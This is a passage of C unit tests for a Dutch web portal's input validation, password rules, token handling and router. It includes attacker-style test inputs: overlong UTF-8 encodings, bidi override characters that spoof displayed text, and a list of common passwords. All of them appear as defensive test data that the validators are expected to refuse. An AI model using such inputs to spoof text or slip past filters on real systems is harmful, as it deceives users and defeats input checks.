		{FIELD_ID, true, "{\"f\": 0}", MSG_ID, NULL, 0, 0, false},
		{FIELD_ID, true, "{\"f\": -3}", MSG_ID, NULL, 0, 0, false},
		{FIELD_ID, true, "{\"f\": 4.5}", "Verwacht tekst.", NULL, 0, 0, false},
		{FIELD_ID, true, "{\"f\": true}", "Verwacht tekst.", NULL, 0, 0, false},
		{FIELD_ID, true, "{\"f\": \"+7\"}", MSG_ID, NULL, 0, 0, false},
		{FIELD_ID, true, "{}", MSG_REQUIRED, "", 0, 0, false},
		{FIELD_CHECKBOX, false, "{\"f\": true}", NULL, "", 0, 0, true},
		{FIELD_CHECKBOX, false, "{\"f\": false}", NULL, "", 0, 0, false},
		{FIELD_CHECKBOX, false, "{}", NULL, "", 0, 0, false},
		{FIELD_CHECKBOX, false, "{\"f\": \"on\"}", "Verwacht true of false.", "", 0, 0, false},
		{FIELD_CHECKBOX, false, "{\"f\": 1}", "Verwacht true of false.", "", 0, 0, false},
		{FIELD_LINE, true, "{\"f\": \"caf\\u00e9\"}", NULL, "caf\xc3\xa9", 0, 0, false},
		/* Not an object at all: everything absent. */
		{FIELD_LINE, true, "[\"f\"]", MSG_REQUIRED, "", 0, 0, false},
		{FIELD_LINE, false, "\"f\"", NULL, "", 0, 0, false},
	};
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		const struct json_case *c = &cases[i];
		arena *a = arena_new();
		json_error_t jerr;
		json_t *obj = json_loads(c->json, JSON_DECODE_ANY, &jerr);
		const char *label = arena_printf(a, "validate_json %s%s %s", kind_name(c->kind),
		                                 c->required ? " required" : "", c->json);
		if (!obj) {
			T_FAIL(label, "test JSON does not parse: %s", jerr.text);
			arena_free(a);
			continue;
		}
		struct field_rule rule = {"f", "Veld", c->kind, c->required, 0, 0,
		                          (c->kind == FIELD_CHOICE || c->kind == FIELD_CHOICES) ? colours : NULL, 0, 0, 0};
		struct validate_case vc = {c->kind, c->required, 0, 0, c->json, c->error, c->text,
		                           c->id, c->bits, c->checked};
		struct field_value v;
		memset(&v, 0xA5, sizeof v);
		int errors = form_validate_json(a, obj, &rule, 1, &v);
		check_value(a, label, &vc, &v, errors);
		json_decref(obj);
		arena_free(a);
	}

	/* A string with an embedded NUL (Jansson allows \u0000 with
	 * JSON_ALLOW_NUL, and json_stringn always): refused, not echoed. */
	static const enum field_kind kinds[] = {FIELD_LINE, FIELD_TEXT, FIELD_PASSWORD, FIELD_EMAIL,
	                                        FIELD_USERNAME};
	for (size_t i = 0; i < ARRAY_LEN(kinds); i++) {
		arena *a = arena_new();
		json_t *obj = json_object();
		json_object_set_new(obj, "f", json_stringn("geheim\0wachtwoord", 17));
		struct field_rule rule = {"f", "Veld", kinds[i], false, 0, 0, NULL, 0, 0, 0};
		struct field_value v;
		int errors = form_validate_json(a, obj, &rule, 1, &v);
		CHECK_INT(errors, 1, "validate_json %s with NUL inside: refused", kind_name(kinds[i]));
		CHECK_STR(v.error, MSG_BAD_UTF8, "validate_json %s with NUL inside: message", kind_name(kinds[i]));
		CHECK_STR(v.text, "", "validate_json %s with NUL inside: not echoed", kind_name(kinds[i]));
		json_decref(obj);
		arena_free(a);
	}
	{
		arena *a = arena_new();
		json_error_t jerr;
		json_t *obj = json_loads("{\"f\": \"a\\u0000b\"}", JSON_ALLOW_NUL, &jerr);
		struct field_rule rule = {"f", "Veld", FIELD_LINE, false, 0, 0, NULL, 0, 0, 0};
		struct field_value v;
		int errors = obj ? form_validate_json(a, obj, &rule, 1, &v) : -1;
		CHECK(errors == 1 && v.error && strcmp(v.error, MSG_BAD_UTF8) == 0,
		      "validate_json: \\u0000 parsed with JSON_ALLOW_NUL is refused");
		json_decref(obj);
		arena_free(a);
	}
	{
		arena *a = arena_new();
		struct field_rule rule = {"f", "Veld", FIELD_LINE, true, 0, 0, NULL, 0, 0, 0};
		struct field_value v;
		int errors = form_validate_json(a, NULL, &rule, 1, &v);
		CHECK(errors == 1 && v.error && strcmp(v.error, MSG_REQUIRED) == 0,
		      "validate_json: NULL object means everything absent");
		arena_free(a);
	}
}

/* ---- UTF-8 ---------------------------------------------------------------- */

static void test_utf8(void)
{
	static const struct {
		const char *s;
		size_t n;
		bool valid;
		const char *what;
	} cases[] = {
		{"", 0, true, "empty"},
		{"abc", 3, true, "ASCII"},
		{"\x7f", 1, true, "DEL is ASCII"},
		{"\xc2\x80", 2, true, "U+0080, smallest 2-byte"},
		{"\xc3\xa9", 2, true, "e-acute 2-byte"},
		{"\xdf\xbf", 2, true, "U+07FF, largest 2-byte"},
		{"\xe0\xa0\x80", 3, true, "U+0800, smallest 3-byte"},
		{"\xe2\x82\xac", 3, true, "euro 3-byte"},
		{"\xed\x9f\xbf", 3, true, "U+D7FF below surrogates"},
		{"\xee\x80\x80", 3, true, "U+E000 above surrogates"},
		{"\xef\xbf\xbf", 3, true, "U+FFFF"},
		{"\xf0\x90\x80\x80", 4, true, "U+10000, smallest 4-byte"},
		{"\xf0\x9f\x98\x80", 4, true, "emoji 4-byte"},
		{"\xf4\x8f\xbf\xbf", 4, true, "U+10FFFF, largest"},
		{"a\xc3\xa9\xe2\x82\xac\xf0\x9f\x98\x80z", 11, true, "mixed"},
		{"\xc0\x80", 2, false, "overlong NUL C0 80"},
		{"\xc0\xaf", 2, false, "overlong slash C0 AF"},
		{"\xc1\xbf", 2, false, "overlong C1 BF"},
		{"\xe0\x80\xaf", 3, false, "overlong 3-byte slash"},
		{"\xe0\x9f\xbf", 3, false, "overlong 3-byte U+07FF"},
		{"\xf0\x80\x80\xaf", 4, false, "overlong 4-byte slash"},
		{"\xf0\x8f\xbf\xbf", 4, false, "overlong 4-byte U+FFFF"},
		{"\xed\xa0\x80", 3, false, "surrogate U+D800"},
		{"\xed\xaf\xbf", 3, false, "surrogate U+DBFF"},
		{"\xed\xb0\x80", 3, false, "surrogate U+DC00"},
		{"\xed\xbf\xbf", 3, false, "surrogate U+DFFF"},
		{"\xed\xa0\xbd\xed\xb8\x80", 6, false, "CESU-8 surrogate pair"},
		{"\xf4\x90\x80\x80", 4, false, "U+110000 beyond range"},
		{"\xf5\x80\x80\x80", 4, false, "F5 lead byte"},
		{"\xf7\xbf\xbf\xbf", 4, false, "F7 lead byte"},
		{"\xf8\x88\x80\x80\x80", 5, false, "5-byte form"},
		{"\xfc\x84\x80\x80\x80\x80", 6, false, "6-byte form"},
		{"\xfe", 1, false, "FE"},
		{"\xff", 1, false, "FF"},
		{"\x80", 1, false, "lone continuation"},
		{"a\xbf", 2, false, "continuation after ASCII"},
		{"\xc3", 1, false, "truncated 2-byte"},
		{"\xe2\x82", 2, false, "truncated 3-byte"},
		{"\xe2", 1, false, "truncated 3-byte, lead only"},
		{"\xf0\x9f\x98", 3, false, "truncated 4-byte"},
		{"abc\xc3", 4, false, "truncated at end"},
		{"\xc3\xa9", 1, false, "length cuts a sequence"},
		{"\xc3\x28", 2, false, "bad continuation"},
		{"\xe2\x28\xa1", 3, false, "bad second byte of 3"},
		{"\xe2\x82\x28", 3, false, "bad third byte of 3"},
		{"\xf0\x9f\x98\x28", 4, false, "bad fourth byte of 4"},
		{"\0", 1, false, "NUL"},
		{"a\0b", 3, false, "NUL inside"},
		{"abc\0", 4, false, "NUL at end"},
	};
	for (size_t i = 0; i < ARRAY_LEN(cases); i++)
		CHECK(utf8_valid(cases[i].s, cases[i].n) == cases[i].valid, "utf8_valid %s: %s",
		      cases[i].what, cases[i].valid ? "valid" : "invalid");

	static const struct {
		const char *s;
		size_t want;
	} lens[] = {
		{"", 0}, {"a", 1}, {"abc", 3}, {"\xc3\xa9", 1}, {"\xe2\x82\xac", 1},
		{"\xf0\x9f\x98\x80", 1}, {"a\xc3\xa9\xe2\x82\xac\xf0\x9f\x98\x80z", 5},
		{"caf\xc3\xa9 cr\xc3\xa8me br\xc3\xbbl\xc3\xa9\x65", 17},
	};
	for (size_t i = 0; i < ARRAY_LEN(lens); i++)
		CHECK_INT(utf8_len(lens[i].s, strlen(lens[i].s)), lens[i].want, "utf8_len case %zu", i);
	CHECK_INT(utf8_len("\xc3\xa9\xc3\xa9", 2), 1, "utf8_len honours n");
}

/* ---- passwords and tokens ------------------------------------------------- */

static void test_passwords(void)
{
	arena *a = arena_new();
	static const struct {
		const char *unit;
		size_t count;
		const char *suffix;
		const char *problem; /* prefix of the message, or NULL */
	} cases[] = {
		{"a", 11, "", "Kies een wachtwoord van minstens 12 tekens"},
		{"a", 12, "", NULL},
		{"a", 128, "", NULL},
		{"a", 129, "", "Kies een wachtwoord van hoogstens 128 tekens"},
		{"a", 0, "", "Kies een wachtwoord van minstens 12 tekens"},
		{"\xc3\xa9", 11, "", "Kies een wachtwoord van minstens 12 tekens"}, /* 22 bytes */
		{"\xc3\xa9", 12, "", NULL},
		{"\xc3\xa9", 128, "", NULL},                                        /* 256 bytes */
		{"\xc3\xa9", 129, "", "Kies een wachtwoord van hoogstens 128 tekens"},
		{"\xf0\x9f\x98\x80", 128, "", NULL},                                /* 512 bytes */
		{"\xf0\x9f\x98\x80", 129, "", "Kies een wachtwoord van hoogstens 128 tekens"},
		{"a", 12, " ", NULL},                                               /* spaces are fine */
		{"a", 12, "\t", "Het wachtwoord mag geen regeleinden of stuurtekens bevatten."},
		{"a", 12, "\n", "Het wachtwoord mag geen regeleinden of stuurtekens bevatten."},
		{"a", 12, "\x1b", "Het wachtwoord mag geen regeleinden of stuurtekens bevatten."},
		{"a", 12, "\x7f", "Het wachtwoord mag geen regeleinden of stuurtekens bevatten."},
		{"a", 12, "\xff", "Het wachtwoord bevat tekens die niet kunnen worden gelezen."},
		{"a", 12, "\xc0\x80", "Het wachtwoord bevat tekens die niet kunnen worden gelezen."},
		{"a", 12, "\xed\xa0\x80", "Het wachtwoord bevat tekens die niet kunnen worden gelezen."},
	};
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		/* The last of the count characters is the unit's neighbour ("b"
		 * after "a", U+00EA after U+00E9): as many bytes and characters,
		 * but no longer one character repeated, which is refused on its
		 * own (test_password_blocklist). */
		char *last = arena_strdup(a, cases[i].unit);
		last[strlen(last) - 1]++;
		const char *pw = cases[i].count == 0 ? arena_strdup(a, cases[i].suffix)
		                 : arena_printf(a, "%s%s%s", repeat(a, cases[i].unit, cases[i].count - 1), last,
		                                cases[i].suffix);
		const char *p = password_problem(pw, "jan", "Jan de Vries");
		const char *label = arena_printf(a, "password_problem %zu x [%s] (the last one next to it) + [%s]", cases[i].count,
		                                 show(a, cases[i].unit, strlen(cases[i].unit)),
		                                 show(a, cases[i].suffix, strlen(cases[i].suffix)));
		if (cases[i].problem)
			CHECK(p && strncmp(p, cases[i].problem, strlen(cases[i].problem)) == 0,
			      "%s: refused with [%s] (got [%s])", label, cases[i].problem, p ? p : "(null)");
		else
			CHECK(p == NULL, "%s: accepted (got [%s])", label, p ? p : "");
	}
	arena_free(a);

	/* password_generate: 16 characters in groups of four, no look-alikes. */
	bool all_ok = true, all_differ = true;
	char prev[20] = "";
	for (int i = 0; i < 200; i++) {
		char pw[20];
		memset(pw, 'Z', sizeof pw);
		password_generate(pw);
		bool ok = strlen(pw) == 19 && password_problem(pw, "jan", "Jan de Vries") == NULL;
		for (int k = 0; k < 19 && ok; k++) {
			if (k % 5 == 4)
				ok = pw[k] == '-';
			else
				ok = strchr("0O1lIo", pw[k]) == NULL &&
				     ((pw[k] >= 'a' && pw[k] <= 'z') || (pw[k] >= 'A' && pw[k] <= 'Z') ||
				      (pw[k] >= '2' && pw[k] <= '9'));
		}
		if (!ok) {
			T_FAIL("password_generate shape", "got [%s]", pw);
			all_ok = false;
			break;
		}
		if (strcmp(pw, prev) == 0)
			all_differ = false;
		memcpy(prev, pw, sizeof prev);
	}
	CHECK(all_ok, "password_generate: 200 passwords of form xxxx-xxxx-xxxx-xxxx passing the rules");
	CHECK(all_differ, "password_generate: consecutive passwords differ");
}

/* The passwords an attacker tries first are refused wherever a password is
 * set (password_problem: /wachtwoord, loket user-add). */
static void test_password_blocklist(void)
{
#define PW_COMMON "Dit wachtwoord staat op de lijst van veelgebruikte wachtwoorden"
#define PW_REPEAT "Dit wachtwoord herhaalt steeds hetzelfde teken of stukje"
#define PW_RUN "Dit wachtwoord is een reeks opeenvolgende cijfers of letters"
#define PW_NAME "Gebruik niet uw gebruikersnaam of naam als wachtwoord"
	static const struct {
		const char *pw;
		const char *problem; /* prefix of the message, or NULL */
	} cases[] = {
		/* the held strings */
		{"wachtwoord12", PW_COMMON},
		{"            ", PW_REPEAT}, /* 12 spaces */
		{"123456789012", PW_RUN},
		{"jan.devriesjan.devries", PW_NAME}, /* the user name twice */
		/* common passwords, ignoring case */
		{"WACHTWOORD123", PW_COMMON},
		{"Wachtwoord1234", PW_COMMON},
		{"welkom123456", PW_COMMON},
		{"Password1234", PW_COMMON},
		{"qwertyuiopas", PW_COMMON},
		{"Qwerty123456", PW_COMMON},
		{"iloveyou1234", PW_COMMON},
		{"1qaz2wsx3edc", PW_COMMON},
		/* one character or a short piece repeated */
		{"aaaaaaaaaaaa", PW_REPEAT},
		{"AAAAAAaaaaaa", PW_REPEAT},
		{"\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9", PW_REPEAT},
		{"abcabcabcabc", PW_REPEAT},
		{"121212121212", PW_REPEAT},
		{"Zomer!Zomer!Zomer!", PW_REPEAT},
		{"Fiets-en-boom!Fiets-en-boom!", PW_REPEAT},
		/* straight runs, up or down, digits wrapping after 9 */
		{"1234567890123", PW_RUN},
		{"987654321098", PW_RUN},
		{"abcdefghijkl", PW_RUN},
		{"ZYXWVUTSRQPO", PW_RUN},
		{"mnopqrstuvwx", PW_RUN},
		/* the user's own name */
		{"jan.devries", "Kies een wachtwoord van minstens 12 tekens"}, /* too short first */
		{"JAN.DEVRIES!", NULL},                                        /* not the name itself */
		{"Jan de Vries", PW_NAME},
		{"jan de vries", PW_NAME},
		{"JanDeVries12", NULL},
		{"jandevriesjandevries", PW_NAME},
		{"Jan de VriesJan de Vries", PW_NAME},
		/* what stays allowed */
		{"een lange zin om te onthouden", NULL},
		{"Zomer-Appel-Fiets-42", NULL},
		{"aaaaaaaaaaab", NULL},
		{"123456789013", NULL},
		{"abcdefghijkm", NULL},
		{"abcabcabcabcd", NULL},
		{"wachtwoord12!", NULL},
		{"1234567890ab", NULL},
	};
	arena *a = arena_new();
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		const char *p = password_problem(cases[i].pw, "jan.devries", "Jan de Vries");
		const char *label = arena_printf(a, "password blocklist [%s]", show(a, cases[i].pw, strlen(cases[i].pw)));
		if (cases[i].problem)
			CHECK(p && strncmp(p, cases[i].problem, strlen(cases[i].problem)) == 0,
			      "%s: refused with [%s] (got [%s])", label, cases[i].problem, p ? p : "(null)");
		else
			CHECK(p == NULL, "%s: accepted (got [%s])", label, p ? p : "");
	}
	arena_free(a);
	/* Without a username or name only the other rules apply. */
	CHECK(password_problem("Jan de Vries", NULL, NULL) == NULL, "password blocklist: no name given, a name is fine");
	CHECK(password_problem("wachtwoord12", NULL, NULL) != NULL, "password blocklist: no name given, the list still holds");
	CHECK(password_problem("pietpietpiet", "piet", NULL) != NULL, "password blocklist: a short username three times");
#undef PW_COMMON
#undef PW_REPEAT
#undef PW_RUN
#undef PW_NAME
}

/* ---- bidirectional controls ---------------------------------------------- */

#define MSG_BIDI "Dit veld bevat onzichtbare tekens die de leesrichting omdraaien; typ de tekst opnieuw."

/* Each Unicode bidirectional control is refused in every text kind, in a
 * form and in JSON, with the text kept without it; look-alike neighbours
 * and passwords pass. */
static void test_bidi(void)
{
	static const struct {
		const char *name;
		const char *utf8;
		const char *pct;  /* percent-encoded */
		const char *json; /* JSON escape */
		bool refused;
	} cps[] = {
		{"U+061C", "\xd8\x9c", "%D8%9C", "\\u061c", true},
		{"U+200E", "\xe2\x80\x8e", "%E2%80%8E", "\\u200e", true},
		{"U+200F", "\xe2\x80\x8f", "%E2%80%8F", "\\u200f", true},
		{"U+202A", "\xe2\x80\xaa", "%E2%80%AA", "\\u202a", true},
		{"U+202B", "\xe2\x80\xab", "%E2%80%AB", "\\u202b", true},
		{"U+202C", "\xe2\x80\xac", "%E2%80%AC", "\\u202c", true},
		{"U+202D", "\xe2\x80\xad", "%E2%80%AD", "\\u202d", true},
		{"U+202E", "\xe2\x80\xae", "%E2%80%AE", "\\u202e", true},
		{"U+2066", "\xe2\x81\xa6", "%E2%81%A6", "\\u2066", true},
		{"U+2067", "\xe2\x81\xa7", "%E2%81%A7", "\\u2067", true},
		{"U+2068", "\xe2\x81\xa8", "%E2%81%A8", "\\u2068", true},
		{"U+2069", "\xe2\x81\xa9", "%E2%81%A9", "\\u2069", true},
		/* neighbours that are fine */
		{"U+061B", "\xd8\x9b", "%D8%9B", "\\u061b", false},
		{"U+200D", "\xe2\x80\x8d", "%E2%80%8D", "\\u200d", false},
		{"U+2010", "\xe2\x80\x90", "%E2%80%90", "\\u2010", false},
		{"U+2029", "\xe2\x80\xa9", "%E2%80%A9", "\\u2029", false},
		{"U+202F", "\xe2\x80\xaf", "%E2%80%AF", "\\u202f", false},
		{"U+2065", "\xe2\x81\xa5", "%E2%81%A5", "\\u2065", false},
		{"U+206A", "\xe2\x81\xaa", "%E2%81%AA", "\\u206a", false},
	};
	static const enum field_kind kinds[] = {FIELD_LINE, FIELD_TEXT, FIELD_EMAIL};
	for (size_t i = 0; i < ARRAY_LEN(cps); i++) {
		for (size_t k = 0; k < ARRAY_LEN(kinds); k++) {
			arena *a = arena_new();
			bool email = kinds[k] == FIELD_EMAIL;
			struct field_rule rule = {"f", "Veld", kinds[k], true, 0, 200, NULL, 0, 0, 0};
			const char *label = arena_printf(a, "bidi %s in %s", cps[i].name, kind_name(kinds[k]));
			/* "Jan<cp>sen" (the name reversed half-way) */
			const char *in = arena_printf(a, email ? "f=jan%s@gemeente.nl" : "f=Jan%ssen", cps[i].pct);
			const char *kept = email ? "jan@gemeente.nl" : "Jansen";
			struct form *f = NULL;
			const char *bad = NULL;
			struct field_value v;
			form_parse(a, in, strlen(in), &f, &bad);
			int errors = form_validate(a, f, &rule, 1, &v);
			if (cps[i].refused) {
				CHECK(errors == 1 && v.error && strcmp(v.error, MSG_BIDI) == 0,
				      "%s: form refused with the message (got [%s])", label, v.error ? v.error : "(null)");
				CHECK_STR(v.text, kept, "%s: form text kept without it", label);
			} else if (!email) {
				CHECK(errors == 0, "%s: form accepted (got [%s])", label, v.error ? v.error : "");
				CHECK_STR(v.text, arena_printf(a, "Jan%ssen", cps[i].utf8), "%s: form text unchanged", label);
			}
			const char *jtext = arena_printf(a, email ? "{\"f\": \"jan%s@gemeente.nl\"}" : "{\"f\": \"Jan%ssen\"}",
			                                 cps[i].json);
			json_t *j = json_loads(jtext, 0, NULL);
			errors = form_validate_json(a, j, &rule, 1, &v);
			json_decref(j);
			if (cps[i].refused) {
				CHECK(errors == 1 && v.error && strcmp(v.error, MSG_BIDI) == 0,
				      "%s: JSON refused with the message (got [%s])", label, v.error ? v.error : "(null)");
				CHECK_STR(v.text, kept, "%s: JSON text kept without it", label);
			} else if (!email) {
				CHECK(errors == 0, "%s: JSON accepted (got [%s])", label, v.error ? v.error : "");
			}
			arena_free(a);
		}
		/* A password may hold any character: it is never shown. */
		arena *a = arena_new();
		struct field_rule pw = {"f", "Wachtwoord", FIELD_PASSWORD, true, 0, 200, NULL, 0, 0, 0};
		const char *in = arena_printf(a, "f=Jan%ssen", cps[i].pct);
		struct form *f = NULL;
		const char *bad = NULL;
		struct field_value v;
		form_parse(a, in, strlen(in), &f, &bad);
		CHECK(form_validate(a, f, &pw, 1, &v) == 0, "bidi %s in a password: accepted", cps[i].name);
		arena_free(a);
	}
	/* Several controls, and one at the very end (no byte read past it). */
	arena *a = arena_new();
	struct field_rule rule = {"f", "Veld", FIELD_LINE, true, 0, 200, NULL, 0, 0, 0};
	struct form *f = NULL;
	const char *bad = NULL;
	struct field_value v;
	const char *in = "f=%E2%80%AEnaJ%E2%80%AC+de+Vries%E2%81%A6";
	form_parse(a, in, strlen(in), &f, &bad);
	int errors = form_validate(a, f, &rule, 1, &v);
	CHECK(errors == 1 && strcmp(v.text, "naJ de Vries") == 0,
	      "bidi: every control removed from the kept text (got [%s])", v.text);
	in = "f=Jan%E2%80";
	form_parse(a, in, strlen(in), &f, &bad);
	errors = form_validate(a, f, &rule, 1, &v);
	CHECK(errors == 1 && v.error && strcmp(v.error, MSG_BIDI) != 0,
	      "bidi: a cut-off sequence is bad UTF-8, not a control");
	arena_free(a);
}

static void test_tokens(void)
{
	char t1[TOKEN_TEXT], t2[TOKEN_TEXT];
	token_new(t1);
	token_new(t2);
	CHECK_INT(strlen(t1), 43, "token_new: 43 characters");
	bool charset = true;
	for (const char *p = t1; *p; p++)
		if (!((*p >= 'A' && *p <= 'Z') || (*p >= 'a' && *p <= 'z') || (*p >= '0' && *p <= '9') ||
		      *p == '-' || *p == '_'))
			charset = false;
	CHECK(charset, "token_new: base64url alphabet only [%s]", t1);
	CHECK(strcmp(t1, t2) != 0, "token_new: two tokens differ");

	unsigned char raw[64];
	size_t raw_len = 0;
	CHECK(sodium_base642bin(raw, sizeof raw, t1, strlen(t1), NULL, &raw_len, NULL,
	                        sodium_base64_VARIANT_URLSAFE_NO_PADDING) == 0 && raw_len == 32,
	      "token_new: decodes to 32 random bytes");

	unsigned char h1[32], h2[32], h3[32], want[32];
	memset(h1, 0, sizeof h1);
	memset(h2, 0xff, sizeof h2);
	token_hash(t1, h1);
	token_hash(t1, h2);
	token_hash(t2, h3);
	CHECK(memcmp(h1, h2, 32) == 0, "token_hash: deterministic");
	CHECK(memcmp(h1, h3, 32) != 0, "token_hash: different tokens, different hashes");
	crypto_generichash(want, 32, (const unsigned char *)t1, strlen(t1), NULL, 0);
	CHECK(memcmp(h1, want, 32) == 0, "token_hash: BLAKE2b-256 of the token text");
	CHECK(memcmp(h1, raw, 32) != 0, "token_hash: not the token itself");
	sodium_memzero(raw, sizeof raw);
}

/* ---- router --------------------------------------------------------------- */

struct route_case {
	enum http_method method;
	const char *path;
	handler_fn want;          /* NULL: no match */
	const char *param0;       /* NULL: no params expected */
	unsigned allowed_must;    /* bits that must be in allowed_methods on no match */
	bool allowed_zero;        /* allowed_methods must be 0 (404) */
};

static void test_router(void)
{
	static const struct route_case cases[] = {
		{HTTP_GET, "/", h_home, NULL, 0, false},
		{HTTP_HEAD, "/", h_home, NULL, 0, false},
		{HTTP_POST, "/", NULL, NULL, HTTP_GET, false},
		{HTTP_DELETE, "/", NULL, NULL, HTTP_GET, false},
		{HTTP_PUT, "/", NULL, NULL, HTTP_GET, false},
		{HTTP_OTHER, "/", NULL, NULL, HTTP_GET, false},
		{HTTP_GET, "/inloggen", h_login_form, NULL, 0, false},
		{HTTP_HEAD, "/inloggen", h_login_form, NULL, 0, false},
		{HTTP_POST, "/inloggen", h_login, NULL, 0, false},
		{HTTP_DELETE, "/inloggen", NULL, NULL, HTTP_GET | HTTP_POST, false},
		{HTTP_POST, "/uitloggen", h_logout, NULL, 0, false},
		{HTTP_GET, "/uitloggen", NULL, NULL, HTTP_POST, false},
		{HTTP_GET, "/wachtwoord", h_password_form, NULL, 0, false},
		{HTTP_POST, "/wachtwoord", h_password_change, NULL, 0, false},
		{HTTP_GET, "/beheer/gebruikers", h_users_list, NULL, 0, false},
		{HTTP_GET, "/beheer/gebruikers/nieuw", h_user_new_form, NULL, 0, false},
		{HTTP_POST, "/beheer/gebruikers/nieuw", h_user_create, NULL, 0, false},
		{HTTP_GET, "/beheer/gebruikers/12", h_user_show, "12", 0, false},
		{HTTP_HEAD, "/beheer/gebruikers/7", h_user_show, "7", 0, false},
		{HTTP_GET, "/beheer/gebruikers/123456789012345678", h_user_show, "123456789012345678", 0, false},
		{HTTP_POST, "/beheer/gebruikers/12", NULL, NULL, HTTP_GET, false},
		{HTTP_POST, "/beheer/gebruikers/12/deactiveren", h_user_deactivate, "12", 0, false},
		{HTTP_POST, "/beheer/gebruikers/3/activeren", h_user_activate, "3", 0, false},
		{HTTP_POST, "/beheer/gebruikers/99/wachtwoord", h_user_reset_password, "99", 0, false},
		{HTTP_GET, "/beheer/gebruikers/12/deactiveren", NULL, NULL, HTTP_POST, false},
		{HTTP_GET, "/beheer/gebruikers/012", NULL, NULL, 0, true},
		{HTTP_GET, "/beheer/gebruikers/0", NULL, NULL, 0, true},
		{HTTP_GET, "/beheer/gebruikers/abc", NULL, NULL, 0, true},
		{HTTP_GET, "/beheer/gebruikers/-1", NULL, NULL, 0, true},
		{HTTP_GET, "/beheer/gebruikers/+1", NULL, NULL, 0, true},
		{HTTP_GET, "/beheer/gebruikers/12a", NULL, NULL, 0, true},
		{HTTP_GET, "/beheer/gebruikers/1234567890123456789", NULL, NULL, 0, true},
		{HTTP_GET, "/beheer/gebruikers/", NULL, NULL, 0, true},
		{HTTP_GET, "/beheer/gebruikers/12/", NULL, NULL, 0, true},
		{HTTP_POST, "/beheer/gebruikers/012/deactiveren", NULL, NULL, 0, true},
		{HTTP_GET, "/audit", h_audit_list, NULL, 0, false},
		{HTTP_GET, "/audit/", NULL, NULL, 0, true},
		{HTTP_GET, "/api/v1/sessie", h_api_session_info, NULL, 0, false},
		{HTTP_POST, "/api/v1/sessie", h_api_session_create, NULL, 0, false},
		{HTTP_DELETE, "/api/v1/sessie", h_api_session_delete, NULL, 0, false},
		{HTTP_PUT, "/api/v1/sessie", NULL, NULL, HTTP_GET | HTTP_POST | HTTP_DELETE, false},
		{HTTP_GET, "/api/v1/ik", h_api_me, NULL, 0, false},
		{HTTP_GET, "/static/css/loket.css", h_static, NULL, 0, false},
		{HTTP_HEAD, "/static/css/loket.css", h_static, NULL, 0, false},
		{HTTP_POST, "/static/css/loket.css", NULL, NULL, HTTP_GET, false},
		{HTTP_GET, "/static", NULL, NULL, 0, true},
		{HTTP_GET, "/staticx/a.css", NULL, NULL, 0, true},
		{HTTP_GET, "/bestaat-niet", NULL, NULL, 0, true},
		{HTTP_POST, "/bestaat-niet", NULL, NULL, 0, true},
		{HTTP_GET, "//", NULL, NULL, 0, true},
		{HTTP_GET, "/inloggen/", NULL, NULL, 0, true},
		{HTTP_GET, "/Inloggen", NULL, NULL, 0, true},
		{HTTP_GET, "", NULL, NULL, 0, true},
	};
	static const char *const mnames[] = {"GET", "HEAD", "POST", "PUT", "DELETE", "PATCH", "OTHER"};
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		const struct route_case *c = &cases[i];
		const char *m = "?";
		for (int b = 0; b < 7; b++)
			if ((unsigned)c->method == (1u << b))
				m = mnames[b];
		struct req r;
		memset(&r, 0, sizeof r);
		r.arena = arena_new();
		r.method = c->method;
		r.method_name = m;
		r.path = c->path;
		r.allowed_methods = 0xdead;
		const struct route *rt = router_match(&r);
		if (c->want) {
			CHECK(rt && rt->handler == c->want, "router %s %s: matches the expected handler", m, c->path);
			if (c->param0) {
				CHECK_INT(r.nparams, 1, "router %s %s: one param", m, c->path);
				CHECK_STR(r.nparams > 0 ? r.params[0] : NULL, c->param0, "router %s %s: params[0]", m, c->path);
			} else {
				CHECK_INT(r.nparams, 0, "router %s %s: no params", m, c->path);
			}
		} else {
			CHECK(rt == NULL, "router %s %s: no match", m, c->path);
			CHECK_INT(r.nparams, 0, "router %s %s: nparams 0 on no match", m, c->path);
			if (c->allowed_zero)
				CHECK_INT(r.allowed_methods, 0, "router %s %s: allowed_methods 0 (404)", m, c->path);
			else
				CHECK((r.allowed_methods & c->allowed_must) == c->allowed_must &&
				      !(r.allowed_methods & c->method),
				      "router %s %s: allowed_methods 0x%x has 0x%x (405)", m, c->path,
				      r.allowed_methods, c->allowed_must);
		}
		arena_free(r.arena);
	}

	/* Every route carries an explicit access rule. */
	CHECK(routes_count > 0, "routes: table not empty");
	for (size_t i = 0; i < routes_count; i++) {
		const struct route *rt = &routes[i];
		char p[160];
		snprintf(p, sizeof p, "%s (methods 0x%x)", rt->pattern ? rt->pattern : "(null)", rt->methods);
		CHECK(rt->handler != NULL, "route %s: has a handler", p);
		CHECK(rt->pattern && rt->pattern[0] == '/', "route %s: pattern starts with /", p);
		CHECK(rt->methods != 0 && (rt->methods & ~(unsigned)(HTTP_GET | HTTP_POST | HTTP_PUT |
		                                                      HTTP_DELETE | HTTP_PATCH)) == 0,
		      "route %s: real methods only (HEAD comes with GET)", p);
		CHECK((rt->flags & ROUTE_PUBLIC) || rt->roles != 0,
		      "route %s: public or restricted to roles", p);
		CHECK((rt->roles & ~(unsigned)ROLE_ALL) == 0, "route %s: roles are known role bits", p);
		CHECK(!(rt->flags & ROUTE_PRELOGIN_CSRF) || ((rt->flags & ROUTE_PUBLIC) && (rt->methods & HTTP_POST)),
		      "route %s: pre-sign-in CSRF only on public POST routes", p);
		for (size_t k = 0; k < i; k++)
			if (routes[k].pattern && rt->pattern && strcmp(routes[k].pattern, rt->pattern) == 0 &&
			    (routes[k].methods & rt->methods))
				T_FAIL("routes: no duplicates", "%s twice for methods 0x%x", p,
				       routes[k].methods & rt->methods);
	}
}

/* ---- arena and strbuf ----------------------------------------------------- */

static void test_arena(void)
{
	arena *a = arena_new();
	bool aligned = true, zeroed = true;
	for (size_t n = 1; n <= 100; n++) {
		unsigned char *p = arena_alloc(a, n);
		if ((uintptr_t)p % 16)
			aligned = false;
		for (size_t k = 0; k < n; k++)
			if (p[k])
				zeroed = false;
		memset(p, 0xCC, n);
	}
	CHECK(aligned, "arena_alloc: 100 small allocations 16-byte aligned");
	CHECK(zeroed, "arena_alloc: memory zeroed");

	size_t big = 100000; /* larger than a chunk */
